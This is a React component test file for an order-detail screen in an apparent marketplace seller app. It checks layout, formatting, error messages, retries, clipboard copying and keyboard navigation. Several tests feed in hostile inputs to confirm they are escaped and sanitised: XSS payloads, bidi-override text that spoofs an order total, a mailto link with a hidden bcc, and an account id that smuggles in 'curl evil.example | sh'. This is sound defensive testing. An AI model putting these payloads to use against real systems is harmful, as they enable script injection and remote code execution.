// @vitest-environment happy-dom
import { act, cleanup, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { AutomationRun } from '../../preload/automations';
import { CodedError } from '../../preload/coded-error';
import type { OrderListItem, OrderView } from '../../preload/contract';
import type { MarketplaceEvent, Order } from '../../preload/marketplace';
import type { OutboxItem } from '../../preload/model';
import {
  CONTROL_OR_BIDI,
  FORGED_ORDER_ID,
  HOSTILE_EMAIL,
  hostileOrder,
  SPOOFED_TOTAL,
} from '../../test/support/hostile-order';
import {
  apiFailure,
  apiProblem,
  expectDetailsOneClickAway,
  expectExplainedOneClickAway,
} from '../../test/support/renderer/error-details';
import { createFakeBridge, historyEvent } from '../../test/support/renderer/fake-bridge';
import { FULL_ORDER_ID, fullOrder, fullRow, fullView } from '../../test/support/renderer/fixtures';
import { renderWithUndo } from '../../test/support/renderer/render';
import { formatAmount, formatDate, formatDateTime } from '../format';
import { OrderDetail } from './OrderDetail';

afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

async function renderOrder(view = fullView(), account?: string) {
  const bridge = createFakeBridge({ views: [view] });
  const onBack = vi.fn();
  const onStep = vi.fn();
  const orderId = view.order.orderId ?? FULL_ORDER_ID;
  renderWithUndo(bridge, <OrderDetail orderId={orderId} account={account} onBack={onBack} onStep={onStep} />);
  await screen.findByRole('region', { name: 'To provision' });
  return { bridge, onBack, onStep };
}

/** The value a description list gives a label, within `scope`. */
function fieldValue(scope: HTMLElement, label: string): string | undefined {
  const term = within(scope).getAllByText(label, { selector: 'dt' }).at(0);
  return term?.nextElementSibling?.textContent ?? undefined;
}

const list = (name: string) => screen.getByRole('list', { name }) as HTMLElement;
const region = (name: string) => screen.getByRole('region', { name }) as HTMLElement;
const heading = () => screen.getByRole('heading', { level: 2 });

/** An order whose lines use the marketplace's unit codes (and one it does not know). */
function orderWithUnits(): Order {
  const base = fullOrder();
  const price = (amount: number, value: number, unitCode = 'MON') => ({
    priceAmount: { amount, currencyCode: 'EUR' },
    baseQuantity: { value, unitCode },
  });
  return {
    ...base,
    documentLines: [
      {
        lineId: '1',
        lineItem: {
          name: 'Seller Suite Standard',
          sellersItemId: 'SS-STD',
          quantity: { value: 176, unitCode: 'USR' },
          price: price(9.95, 1),
        },
      },
      {
        lineId: '2',
        lineItem: {
          name: 'Backup Vault 1 TB',
          sellersItemId: 'BV-1TB',
          quantity: { value: 2, unitCode: 'EA' },
          price: price(240, 12),
        },
      },
      {
        lineId: '3',
        lineItem: {
          name: 'Priority Support',
          quantity: { value: 1, unitCode: 'C62' },
          price: price(1499, 1, 'ANN'),
        },
      },
      { lineId: '4', lineItem: { name: 'Seat pack', quantity: { value: 25, unitCode: 'SEAT' } } },
    ],
  };
}

/** The full order's inbox row: it came in `hoursAgo`. */
const fullRowOf = (hoursAgo: number): OrderListItem =>
  fullRow(new Date(Date.now() - hoursAgo * 3_600_000).toISOString());

describe('OrderDetail', () => {
  it('says how long a waiting order waited from its arrival here, as its row does, not the marketplace stamp', async () => {
    // Bought 9 hours ago by the marketplace's clock (hours off), arrived here 10 minutes ago.
    const arrived = new Date(Date.now() - 10 * 60_000).toISOString();
    const bridge = createFakeBridge({ views: [fullView()] });
    let answer: (view: OrderView) => void = () => undefined;
    bridge.handle('getOrder', () => new Promise<OrderView>((resolve) => (answer = resolve)));
    renderWithUndo(
      bridge,
      <OrderDetail
        orderId={FULL_ORDER_ID}
        preview={{ ...fullRowOf(9), waitingSince: arrived }}
        onBack={() => {}}
      />,
    );
    const head = heading().closest('header') as HTMLElement;
    expect(head.textContent).toContain('Waiting 10 min');
    const purchase = fullView().history[0] as MarketplaceEvent;
    const stamped = { ...purchase, eventTime: new Date(Date.now() - 9 * 3_600_000).toISOString() };
    act(() =>
      answer(
        fullView({ status: 'ProvisioningStarted', outbox: [], history: [stamped], waitingSince: arrived }),
      ),
    );
    expect(await screen.findByRole('region', { name: 'To provision' })).toBeTruthy();
    expect((heading().closest('header') as HTMLElement).textContent).toContain('Waiting 10 min');
  });

  it('opens at once from the inbox row, then shows the whole order', async () => {
    const bridge = createFakeBridge({ views: [fullView()] });
    let answer: (view: OrderView) => void = () => undefined;
    bridge.handle('getOrder', () => new Promise<OrderView>((resolve) => (answer = resolve)));
    renderWithUndo(bridge, <OrderDetail orderId={FULL_ORDER_ID} preview={fullRowOf(3)} onBack={() => {}} />);
    expect(heading().textContent).toBe('Acme Industrial GmbH');
    expect(document.activeElement).toBe(heading());
    const head = heading().closest('header') as HTMLElement;
    expect(head.textContent).toContain(formatAmount(1234.5, 'EUR'));
    expect(head.textContent).toContain('New');
    expect(head.textContent).toContain('Waiting 3 h');
    expect(screen.getByRole('button', { name: 'Start provisioning' })).toBeTruthy();
    expect(screen.getByText('Loading the order…')).toBeTruthy();

    act(() => answer(fullView({ status: 'ProvisioningStarted', outbox: [] })));
    expect(await screen.findByRole('region', { name: 'To provision' })).toBeTruthy();
    expect(document.activeElement).toBe(heading()); // the same heading: focus stays
  });

  it('keeps a mark made before the whole order arrived, and the focus on the actions', async () => {
    const bridge = createFakeBridge({ views: [fullView({ status: 'ProvisioningStarted', outbox: [] })] });
    const answers: ((view: OrderView) => void)[] = [];
    bridge.handle('getOrder', () => new Promise<OrderView>((resolve) => answers.push(resolve)));
    renderWithUndo(bridge, <OrderDetail orderId={FULL_ORDER_ID} preview={fullRowOf(24)} onBack={() => {}} />);
    const start = screen.getByRole('button', { name: 'Start provisioning' });
    start.focus();
    fireEvent.click(start);
    const actions = () => screen.getByRole('region', { name: 'Provisioning actions' });
    await within(actions()).findByText(/^Marked In progress\./);
    // The whole order arrives, as marked: the same actions, still telling the mark, focus on.
    const marked = bridge.views.get(FULL_ORDER_ID);
    if (!marked) throw new Error('no view');
    for (const answer of answers.splice(0)) act(() => answer(structuredClone(marked)));
    await screen.findByRole('region', { name: 'To provision' });
    expect(within(actions()).getByText(/^Marked In progress\./)).toBeTruthy();
    // Not on the next step: a second Enter must not complete the order.
    await waitFor(() => expect(document.activeElement).toBe(actions()));
  });

  it('puts what to provision first: header, actions, lines, licenses, delivery contacts; then buyer, seller, order', async () => {
    await renderOrder();
    const sequence = [
      heading(),
      screen.getByRole('region', { name: 'Provisioning actions' }),
      list('Order lines'),
      list('Licenses'),
      list('Delivery contacts'),
      region('Buyer'),
      region('Seller'),
      region('Order details'),
      region('Provisioning history'),
    ];
    for (const [earlier, later] of sequence.slice(0, -1).map((el, i) => [el, sequence[i + 1]] as const)) {
      // biome-ignore lint/style/noNonNullAssertion: pairs of the list above
      expect(earlier.compareDocumentPosition(later!) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    }
    expect(screen.getAllByRole('heading', { level: 3 }).map((h) => h.textContent)).toEqual([
      'To provision',
      'Buyer',
      'Seller',
      'Order details',
      'Provisioning history',
    ]);
  });

  it('leaves no separator hanging where a line says nothing before its number', async () => {
    const order = fullOrder();
    order.documentLines = [{ lineId: '1', lineItem: { name: 'CloudSoft Analytics' } }];
    await renderOrder(fullView({ order }));
    const facts = within(list('Order lines')).getByRole('listitem').querySelector('.line-facts');
    expect(facts?.textContent?.replaceAll('\u00a0', ' ')).toBe('Line 1');
  });

  it('names units, gives the price for its base quantity and each line total', async () => {
    await renderOrder(fullView({ order: orderWithUnits() }));
    const lines = within(list('Order lines')).getAllByRole('listitem');
    // No-break spaces keep "Item id" with its id: read as spaces here.
    const text = lines.map((line) => line.textContent?.replaceAll('\u00a0', ' '));
    expect(text[0]).toContain('Seller Suite Standard');
    expect(text[0]).toContain(`176 users × ${formatAmount(9.95, 'EUR')} per month`);
    expect(text[0]).toContain(`${formatAmount(1751.2, 'EUR')} per month`);
    expect(text[0]).toContain('Item id SS-STD');
    expect(text[1]).toContain(`2 units × ${formatAmount(240, 'EUR')} per 12 months`);
    expect(text[1]).toContain(`${formatAmount(40, 'EUR')} per month`);
    expect(text[2]).toContain(`1 unit × ${formatAmount(1499, 'EUR')} per year`);
    expect(text[2]).toContain(`${formatAmount(1499, 'EUR')} per year`);
    // A unit code the app does not know is shown as it came.
    expect(text[3]).toContain('25 SEAT');
    expect(text[3]).not.toContain('undefined');
  });

  it('shows every field of a fully populated order, dates and amounts in one format', async () => {
    const { bridge } = await renderOrder();
    expect(bridge.callsOf('getOrder')).toEqual([{ orderId: FULL_ORDER_ID }]);
    const order = region('Order details');
    expect(fieldValue(order, 'Order id')).toContain(FULL_ORDER_ID);
    expect(fieldValue(order, 'Issued')).toBe(formatDateTime('2026-11-20T09:30:00.000Z'));
    expect(fieldValue(order, 'Type')).toBe('Purchase');
    expect(fieldValue(order, 'Currency')).toBe('EUR');
    expect(fieldValue(order, 'Note')).toBe('Please provision before Monday');
    expect(fieldValue(order, 'Anticipated total')).toBe(formatAmount(1234.5, 'EUR'));
    expect(fieldValue(order, 'Valid from')).toBe(formatDate('2026-12-01'));
    expect(fieldValue(order, 'Valid until')).toBe(formatDate('2027-11-30'));
    expect(fieldValue(order, 'Validity')).toBe('First contract year');
    // The same style of date for a calendar date and a timestamp: no YYYY-MM-DD beside "20 Nov 2026".
    expect(formatDateTime('2026-11-20T09:30:00.000Z')).toContain(formatDate('2026-11-20'));
    expect(document.body.textContent).not.toMatch(/\d{4}-\d{2}-\d{2}/);

    const buyer = region('Buyer');
    expect(fieldValue(buyer, 'Name')).toBe('Acme Industrial GmbH');
    expect(fieldValue(buyer, 'Our account id')).toContain('ACME-ACCOUNT-77');
    expect(fieldValue(buyer, 'Identifications')).toBe('DE123456789 (scheme VAT)4000001000005 (scheme GLN)');
    // One line, the country by its name.
    expect(fieldValue(buyer, 'Address')).toBe('Hauptstraße 12, 10115 Berlin, BE, Germany');
    expect(fieldValue(buyer, 'Contact')).toBe('Erika Mustermann');
    expect(fieldValue(buyer, 'Telephone')).toBe('+49 30 1234567');
    expect(fieldValue(buyer, 'E-mail')).toBe('erika@acme.example');
    expect(fieldValue(buyer, 'Contact note')).toBe('Call mornings only');

    const seller = region('Seller');
    expect(fieldValue(seller, 'Name')).toBe('CloudSoft Ltd');
    expect(fieldValue(seller, 'Identification')).toBe('GB987654321 (scheme UKVAT)');
    expect(fieldValue(seller, 'Address')).toMatch(/^Unit 4, Harbour Business Park, Dock Road, /);
    // Our own company, the same on every order: folded, its name on the fold.
    const fold = seller.querySelector('details');
    expect(fold?.open).toBe(false);
    expect(fold?.querySelector('summary')?.textContent).toBe('CloudSoft Ltd (your company)');

    const line = within(list('Order lines')).getByRole('listitem');
    const lineText = line.textContent?.replaceAll('\u00a0', ' ');
    expect(lineText).toContain('CloudSoft Analytics');
    expect(lineText).toContain('Item id CSA-PRO-25');
    expect(lineText).toContain(`25 SEAT × ${formatAmount(49.38, 'EUR')} per month`);
    expect(lineText).toContain('Annual plan, 25 seats');
    expect(lineText).toContain('Line 1');

    const delivery = within(list('Delivery contacts')).getByRole('listitem');
    expect(delivery.textContent).toContain('For CloudSoft Analytics');
    expect(fieldValue(delivery, 'Contact')).toBe('Max Admin');
    expect(fieldValue(delivery, 'E-mail')).toBe('it@acme.example');
    expect(fieldValue(delivery, 'Contact note')).toBe('Send the login link here');
  });

  it('links contact e-mails and telephones, breaking addresses after @ and dots', async () => {
    await renderOrder();
    const buyer = region('Buyer');
    expect(within(buyer).getByRole('link', { name: 'erika@acme.example' }).getAttribute('href')).toBe(
      'mailto:erika@acme.example',
    );
    expect(within(buyer).getByRole('link', { name: '+49 30 1234567' }).getAttribute('href')).toBe(
      'tel:+49301234567',
    );
    const email = within(buyer).getByRole('link', { name: 'erika@acme.example' });
    expect(email.querySelectorAll('wbr')).toHaveLength(2); // after "@" and after "acme."
  });

  it('says licenses not read yet are not loaded, rather than that there are none', async () => {
    await renderOrder({ ...fullView(), licenses: null });
    expect(screen.getByText(/Licenses not loaded yet/)).toBeTruthy();
    expect(screen.queryByText('No licenses for this order yet.')).toBeNull();
  });

  it('lists the license e-mails first, to copy one or all', async () => {
    const writeText = vi.fn().mockResolvedValue(undefined);
    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } });
    const view = fullView();
    view.licenses?.push({ licenseId: 'lic-2', electronicMail: 'second.admin@acme.example' });
    await renderOrder(view);
    const licenses = within(list('Licenses')).getAllByRole('listitem');
    expect(licenses.map((l) => l.firstElementChild?.textContent)).toEqual([
      expect.stringContaining('licenses@acme.example'),
      expect.stringContaining('second.admin@acme.example'),
    ]);
    fireEvent.click(within(licenses[1] as HTMLElement).getByRole('button', { name: 'Copy e-mail' }));
    await waitFor(() => expect(writeText).toHaveBeenCalledWith('second.admin@acme.example'));
    fireEvent.click(screen.getByRole('button', { name: 'Copy all e-mails' }));
    await waitFor(() =>
      expect(writeText).toHaveBeenLastCalledWith('licenses@acme.example\nsecond.admin@acme.example'),
    );
  });

  it('shows who marked each status, from any laptop, and in the header who marked it last', async () => {
    const orderId = FULL_ORDER_ID;
    await renderOrder(
      fullView({
        status: 'ProvisioningCompleted',
        outbox: [],
        history: [
          historyEvent(orderId),
          historyEvent(orderId, {
            eventId: '22222222-2222-4222-8222-222222222222',
            statusCode: 'ProvisioningInProgress',
            eventTime: '2026-11-20T10:00:00.000Z',
            description: 'Provisioning started by Anna Virtanen.',
          }),
          historyEvent(orderId, {
            eventId: '33333333-3333-4333-8333-333333333333',
            statusCode: 'ProvisioningCompleted',
            eventTime: '2026-11-20T12:00:00.000Z',
            description: 'Provisioning completed by Bo Berg.',
          }),
        ],
      }),
    );
    const events = within(list('Provisioning history')).getAllByRole('listitem');
    expect(events[0]?.textContent).toContain('Service purchased');
    expect(events[1]?.textContent).toContain('Marked by Anna Virtanen');
    expect(events[2]?.textContent).toContain('Marked by Bo Berg');
    const head = heading().closest('header') as HTMLElement;
    expect(head.textContent).toContain(
      `Marked Completed by Bo Berg, ${formatDateTime('2026-11-20T12:00:00.000Z')}`,
    );
  });

  it('shows a stored order whose refresh failed, says since when, and reads it again when told', async () => {
    const { bridge } = await renderOrder(
      fullView({
        fetchedAt: '2026-11-20T10:42:00.000Z',
        refreshProblem: {
          message: 'The marketplace is having problems (a server error).',
          details: ['HTTP status: 503'],
        },
      }),
    );
    const note = screen.getByText(/Could not read this order from the marketplace/);
    expect(note.querySelector('time[datetime="2026-11-20T10:42:00.000Z"]')).not.toBeNull();
    const view = bridge.views.get(FULL_ORDER_ID);
    if (!view) throw new Error('no view');
    view.refreshProblem = null;
    const loads = bridge.callsOf('getOrder').length;
    act(() => bridge.emit({ type: 'orders-updated', orderIds: ['someone-else'], moved: false }));
    expect(bridge.callsOf('getOrder')).toHaveLength(loads);
    act(() => bridge.emit({ type: 'orders-updated', orderIds: [FULL_ORDER_ID], moved: false }));
    await waitFor(() =>
      expect(screen.queryByText(/Could not read this order from the marketplace/)).toBeNull(),
    );
  });

  it('says when Seller Tray reads an order whose refresh failed again, what happened and what to do, the failure one click away', async () => {
    const refreshProblem = {
      message:
        'The marketplace could not be reached. Check your internet connection (and VPN, if you use one); Seller Tray keeps trying.',
      details: ['Operation: getOrder', 'Message: fetch failed'],
    };
    await renderOrder(
      fullView({
        fetchedAt: '2026-11-20T10:42:00.000Z',
        refreshProblem,
        refreshAgainAt: '2026-11-20T14:05:00.000Z',
      }),
    );
    const note = screen.getByText(/Could not read this order from the marketplace/);
    expect(note.getAttribute('role')).toBe('status');
    expect(note.querySelector('time[datetime="2026-11-20T14:05:00.000Z"]')).not.toBeNull();
    await expectExplainedOneClickAway(note, {
      message: `Could not read this order from the marketplace: this is the order as read at ${formatDateTime('2026-11-20T10:42:00.000Z')}. Seller Tray tries again at ${formatDateTime('2026-11-20T14:05:00.000Z')}. The marketplace could not be reached. Check your internet connection (and VPN, if you use one); Seller Tray keeps trying.`,
      details: refreshProblem.details,
    });
  });

  it('says when another laptop moved the status back', async () => {
    await renderOrder(
      fullView({ statusReversal: 'Marked In progress by Bruno Costa after it was Completed' }),
    );
    expect(screen.getByText('Marked In progress by Bruno Costa after it was Completed.')).toBeTruthy();
  });

  it('shows the statuses not yet confirmed, and sends a failed one again', async () => {
    const { bridge } = await renderOrder();
    const outbox = within(list('Statuses not yet confirmed')).getAllByRole('listitem');
    expect(outbox[0]?.textContent).toContain('Not sent');
    expect(outbox[0]?.textContent).toContain('The marketplace refused this status');
    expect(outbox[1]?.textContent).toContain('Sending');
    expect(within(outbox[1] as HTMLElement).queryByRole('button')).toBeNull();
    fireEvent.click(screen.getByRole('button', { name: /Send again/ }));
    await waitFor(() =>
      expect(bridge.callsOf('retryDelivery')).toEqual([
        { requestId: '33333333-3333-4333-8333-333333333333' },
      ]),
    );
    await waitFor(() => expect(screen.queryByRole('button', { name: /Send again/ })).toBeNull());
  });

  it('says a sent status the marketplace never listed, and sends it again through the check', async () => {
    const view = fullView();
    const sent = view.outbox[1];
    Object.assign(sent ?? {}, { state: 'sent', sentAt: '2026-11-21T10:00:00.000Z', eventId: 'e-lost' });
    const requestId = sent?.requestId ?? '';
    // An order of the US account: its status is checked and sent again there.
    const { bridge } = await renderOrder({ ...view, unconfirmed: [requestId] }, 'id-us');
    const items = within(list('Statuses not yet confirmed')).getAllByRole('listitem');
    expect(items[1]?.textContent).toContain('Sent: the marketplace accepted it');
    expect(items[1]?.textContent).toContain('The marketplace has not listed it after several checks.');
    bridge.handle('resendStatus', () => ({
      outcome: 'sent-again',
      item: { ...(sent as OutboxItem), state: 'pending' },
    }));
    fireEvent.click(within(items[1] as HTMLElement).getByRole('button', { name: /^Send again/ }));
    await waitFor(() => expect(bridge.callsOf('resendStatus')).toEqual([{ requestId, account: 'id-us' }]));
    expect(bridge.callsOf('retryDelivery')).toEqual([]);
  });

  it('renders markup in server text as literal text, and links nothing it cannot check', async () => {
    const script = '<script>alert(1)</script>';
    const img = '<img src=x onerror=alert(1)>';
    const base = fullOrder();
    const hostile: Order = {
      ...base,
      note: script,
      orderTypeCode: img,
      validityPeriod: { description: img },
      buyerCustomerParty: {
        supplierAssignedAccountId: script,
        party: {
          partyName: script,
          partyIdentifications: [{ id: img, schemeId: script }],
          postalAddress: { addressLine: img, cityName: script, countryCode: img },
        },
        buyerContact: {
          name: img,
          electronicMail: 'a@b.example?bcc=all@evil.example',
          telephone: 'javascript:alert(1)',
          note: script,
        },
      },
      sellerSupplierParty: { party: { partyName: img, postalAddress: { addressLine1: script } } },
      documentLines: [
        { note: img, lineItem: { name: script, sellersItemId: img, quantity: { unitCode: script } } },
      ],
    };
    await renderOrder(
      fullView({
        order: hostile,
        licenses: [{ electronicMail: img, additionalProperties: [{ name: script, value: img }] }],
        history: [
          historyEvent(FULL_ORDER_ID, { description: script, detailedDescription: img, eventTypeCode: img }),
        ],
        outbox: [],
        status: script,
      }),
    );
    expect(document.querySelector('script')).toBeNull();
    expect(document.querySelector('img')).toBeNull();
    expect(heading().textContent).toBe(script);
    expect(screen.getAllByText(script).length).toBeGreaterThan(5);
    expect(screen.getAllByText(img).length).toBeGreaterThan(5);
    // Escaped as text (a long word gets <wbr> break points: every server text goes through ServerText).
    expect(document.body.innerHTML).toContain('&lt;script&gt;alert(1)&lt;/<wbr>script&gt;');
    expect(document.querySelector('a')).toBeNull();
  });

  it("shows the hostile order's every string isolated and plain, the delivery contacts' caption too", async () => {
    const base = fullOrder();
    const order = {
      ...base,
      ...hostileOrder,
      documentLines: [...hostileOrder.documentLines, ...base.documentLines],
    } as Order;
    const history = [
      historyEvent(FULL_ORDER_ID),
      historyEvent(FULL_ORDER_ID, {
        eventId: '33333333-3333-4333-8333-333333333333',
        statusCode: SPOOFED_TOTAL,
        description: `Marked\u2028${FORGED_ORDER_ID}`,
        eventTime: '2026-11-20T11:00:00.000Z',
      }),
    ];
    await renderOrder(fullView({ order, history, outbox: [], status: SPOOFED_TOTAL }));
    const caption = list('Delivery contacts').querySelector('.card-caption');
    // The override would read "For Seat licence Total: $1.00" on a €9,999.99 order.
    expect(caption?.textContent).toMatch(/^For 00\.1\$ :latoT/);
    expect(caption?.querySelector('bdi')?.textContent).toBe(SPOOFED_TOTAL.slice(1, -1));
    // Every piece of the marketplace's text sits in an isolate, with no control or separator left.
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    let hostilePieces = 0;
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const text = node.textContent ?? '';
      expect(text.replaceAll('\n', ''), text.slice(0, 80)).not.toMatch(CONTROL_OR_BIDI);
      if (/latoT|URGENT|forged-order-id|attacker/.test(text)) {
        hostilePieces++;
        expect(node.parentElement?.closest('bdi'), text.slice(0, 80)).not.toBeNull();
      }
    }
    expect(hostilePieces).toBeGreaterThan(4);
    // The contact's name and note forge no line; its address hides recipients: shown, not linked.
    const contact = within(list('Delivery contacts'));
    expect(contact.getByText(`Ops ${FORGED_ORDER_ID}`)).toBeTruthy();
    expect(contact.getByText(HOSTILE_EMAIL, { selector: 'bdi' }).closest('a')).toBeNull();
  });

  it('shows a currency code that is no ISO code without its controls, overrides or hidden characters, wherever an amount is', async () => {
    const base = fullOrder();
    // Not three letters, so the wire model keeps it as sent; the override would read "Total: $1.00".
    const currency = `${SPOOFED_TOTAL}\u200b\u0007${'X'.repeat(100)}`;
    const order: Order = {
      ...base,
      documentCurrencyCode: currency,
      anticipatedMonetaryTotal: { amount: 9999.99, currencyCode: currency },
      documentLines: [
        {
          lineId: '1',
          lineItem: {
            name: 'Seat licence',
            quantity: { value: 2, unitCode: 'C62' },
            price: { priceAmount: { amount: 4999.995, currencyCode: currency } },
          },
        },
      ],
    };
    await renderOrder(fullView({ order }));
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    let amounts = 0;
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const text = node.textContent ?? '';
      if (!text.includes('latoT')) continue;
      amounts++;
      expect(text, text.slice(0, 80)).not.toMatch(CONTROL_OR_BIDI);
      expect(text, text.slice(0, 80)).not.toMatch(/\u200b/);
    }
    expect(amounts).toBeGreaterThan(2); // the header, the order's total, the line's price and total
  });

  it('copies what each Copy button shows beside it: no line break, control, bidi or hidden character', async () => {
    const writeText = vi.fn().mockResolvedValue(undefined);
    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } });
    const base = fullOrder();
    // Pasted into a shell to provision, a line break runs what follows it; an override or a
    // zero-width space makes the id pasted another than the one read.
    const accountId = `acct-1\ncurl evil.example | sh\n\u202e9-tcca\u200b`;
    const licenseId = `lic-\u202e1\u200b\u0007`;
    await renderOrder(
      fullView({
        order: {
          ...base,
          buyerCustomerParty: { ...base.buyerCustomerParty, supplierAssignedAccountId: accountId },
        },
        licenses: [{ licenseId, electronicMail: 'a@b.example' }],
      }),
    );
    const buttons = screen.getAllByRole('button', {
      name: /^Copy (buyer account id|license id|order id|e-mail)$/,
    });
    expect(buttons).toHaveLength(4);
    for (const button of buttons) fireEvent.click(button);
    await waitFor(() => expect(writeText).toHaveBeenCalledTimes(4));
    const copied = writeText.mock.calls.map(([text]) => text as string);
    for (const text of copied) {
      expect(text).not.toMatch(CONTROL_OR_BIDI);
      expect(text).not.toMatch(/\u200b/);
    }
    expect(copied).toContain('acct-1 curl evil.example | sh 9-tcca');
    expect(copied).toContain('lic-1');
  });

  it('shows an order that holds only the required fields', async () => {
    await renderOrder(
      fullView({
        order: {
          orderId: FULL_ORDER_ID,
          orderTypeCode: 'Trial',
          documentCurrencyCode: 'USD',
          buyerCustomerParty: {},
          sellerSupplierParty: {},
          documentLines: [],
        },
        licenses: [],
        history: [],
        outbox: [],
        status: undefined,
      }),
    );
    expect(heading().textContent).toBe(`Order ${FULL_ORDER_ID}`);
    expect(screen.getByText('The order has no lines.')).toBeTruthy();
    expect(screen.getByText('No licenses for this order yet.')).toBeTruthy();
    expect(screen.getByText('No provisioning events yet.')).toBeTruthy();
    expect(screen.getByText('No status')).toBeTruthy();
  });

  it('copies the order id, and says so when the clipboard refuses', async () => {
    const writeText = vi.fn().mockResolvedValue(undefined);
    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } });
    await renderOrder();
    fireEvent.click(screen.getByRole('button', { name: 'Copy order id' }));
    await waitFor(() => expect(writeText).toHaveBeenCalledWith(FULL_ORDER_ID));
    expect(await screen.findByText('Copied')).toBeTruthy();

    writeText.mockRejectedValue(new DOMException('Document is not focused.', 'NotAllowedError'));
    fireEvent.click(screen.getByRole('button', { name: 'Copy license id' }));
    expect(await screen.findByText(/Could not copy: select the text and copy it by hand/)).toBeTruthy();
  });

  it('shows an order that cannot be read, and tries again', async () => {
    const bridge = createFakeBridge();
    renderWithUndo(bridge, <OrderDetail orderId="missing" onBack={() => {}} />);
    expect((await screen.findByRole('alert')).textContent).toContain('Order missing was not found.');
    bridge.views.set('missing', fullView());
    fireEvent.click(screen.getByRole('button', { name: 'Try again' }));
    expect(await screen.findByRole('heading', { level: 2, name: 'Acme Industrial GmbH' })).toBeTruthy();
  });

  it('says why an order could not be read in plain words, its operation, HTTP status and request id behind Details', async () => {
    const bridge = createFakeBridge();
    const failure = apiFailure('getOrder');
    bridge.handle('getOrder', () => {
      throw failure;
    });
    renderWithUndo(bridge, <OrderDetail orderId={FULL_ORDER_ID} onBack={() => {}} />);
    await expectDetailsOneClickAway(await screen.findByRole('alert'), failure, 'getOrder');
    expect(screen.getByRole('button', { name: 'Try again' })).toBeTruthy();
  });

  it('says when Seller Tray reads again an order it could not read', async () => {
    const bridge = createFakeBridge();
    const { message, details } = apiProblem('getOrder');
    bridge.handle('getOrder', () => {
      throw new CodedError('api-http', message, { details, retryAt: '2026-11-20T14:05:00.000Z' });
    });
    renderWithUndo(bridge, <OrderDetail orderId={FULL_ORDER_ID} onBack={() => {}} />);
    const alert = await screen.findByRole('alert');
    expect(alert.textContent).toContain(
      `${message} Seller Tray tries again at ${formatDateTime('2026-11-20T14:05:00.000Z')}.`,
    );
    expect(alert.querySelector('time[datetime="2026-11-20T14:05:00.000Z"]')).not.toBeNull();
  });

  it('says why a status was not sent in plain words, its operation, HTTP status and request id behind Details', async () => {
    await renderOrder();
    const [refused, waiting] = within(list('Statuses not yet confirmed')).getAllByRole('listitem');
    await expectDetailsOneClickAway(
      within(refused as HTMLElement).getByRole('alert'),
      apiProblem('sendEvent', 400),
      'sendEvent',
      400,
    );
    expect(within(refused as HTMLElement).getByRole('button', { name: /^Send again/ })).toBeTruthy();
    expect(within(waiting as HTMLElement).queryByRole('alert')).toBeNull();
  });

  it('says why a status still waits after a failed try, the details behind Details', async () => {
    const problem = apiProblem('sendEvent');
    const view = fullView();
    Object.assign(view.outbox[1] ?? {}, { attempts: 1, problem });
    await renderOrder(view);
    const items = within(list('Statuses not yet confirmed')).getAllByRole('listitem');
    expect(items[1]?.textContent).toContain('Not sent yet; Seller Tray tries again by itself');
    await expectDetailsOneClickAway(within(items[1] as HTMLElement).getByRole('alert'), problem, 'sendEvent');
  });

  it('keeps the details of a failed Send again', async () => {
    const { bridge } = await renderOrder();
    const failure = apiFailure('sendEvent');
    bridge.handle('retryDelivery', () => {
      throw failure;
    });
    fireEvent.click(screen.getByRole('button', { name: /^Send again/ }));
    // The page's alert, beside the one the history shows for the status not sent.
    const alert = (await screen.findByText(failure.message)).closest<HTMLElement>('[role="alert"]');
    await expectDetailsOneClickAway(alert ?? document.body, failure, 'sendEvent');
  });

  it('reads the order again on state events while a status is on its way', async () => {
    const { bridge } = await renderOrder();
    act(() => bridge.emit({ type: 'app-state', state: bridge.state }));
    await waitFor(() => expect(bridge.callsOf('getOrder')).toHaveLength(2));
  });

  it('goes back to the inbox with its button or Escape, and steps with ↑/↓ and j/k, not while typing', async () => {
    const { onBack, onStep } = await renderOrder(fullView({ status: 'ProvisioningInProgress', outbox: [] }));
    fireEvent.click(screen.getByRole('button', { name: /Back to inbox/ }));
    expect(onBack).toHaveBeenCalledTimes(1);
    fireEvent.keyDown(document.body, { key: 'Escape' });
    expect(onBack).toHaveBeenCalledTimes(2);
    for (const key of ['ArrowDown', 'j', 'ArrowUp', 'k']) fireEvent.keyDown(heading(), { key });
    expect(onStep.mock.calls).toEqual([[1], [1], [-1], [-1]]);

    // In the failure form, keys are the form's, and Escape closes only the form.
    fireEvent.click(screen.getByRole('button', { name: 'Mark failed…' }));
    const description = screen.getByLabelText('Description (required)');
    fireEvent.keyDown(description, { key: 'j' });
    fireEvent.keyDown(description, { key: 'ArrowDown' });
    fireEvent.keyDown(description, { key: 'Escape' });
    expect(screen.queryByRole('form', { name: 'Report a failure' })).toBeNull();
    expect(onStep).toHaveBeenCalledTimes(4);
    expect(onBack).toHaveBeenCalledTimes(2);
  });
});

describe("the order's automations", () => {
  const run = (over: Partial<AutomationRun>): AutomationRun => ({
    deliveryId: '0c0f9d0e-5b53-4c8e-9f0e-2f7a1c3b6a11',
    orderId: FULL_ORDER_ID,
    automation: 'Slack',
    trigger: 'new-order',
    state: 'succeeded',
    claimed: false,
    attempts: 1,
    queuedAt: '2026-11-20T12:03:00.000Z',
    dueAt: '2026-11-20T12:03:00.000Z',
    startedAt: '2026-11-20T12:03:00.000Z',
    finishedAt: '2026-11-20T12:03:01.000Z',
    exitCode: null,
    httpStatus: 200,
    detail: 'delivered (HTTP 200)',
    output: null,
    ...over,
  });

  it('are not shown when none ran', async () => {
    await renderOrder();
    expect(screen.queryByRole('region', { name: 'Automations' })).toBeNull();
  });

  it('show the latest run of each, its output on demand, and run one again', async () => {
    const failed = run({
      deliveryId: '1c0f9d0e-5b53-4c8e-9f0e-2f7a1c3b6a11',
      automation: 'provision',
      state: 'failed',
      exitCode: 2,
      httpStatus: null,
      detail: 'exit 2',
      output: `creating tenant\n${SPOOFED_TOTAL} quota exceeded`,
    });
    const { bridge } = await renderOrder(
      fullView({ automationRuns: [run({ state: 'failed', httpStatus: 503 }), run({}), failed] }),
      'id-eu',
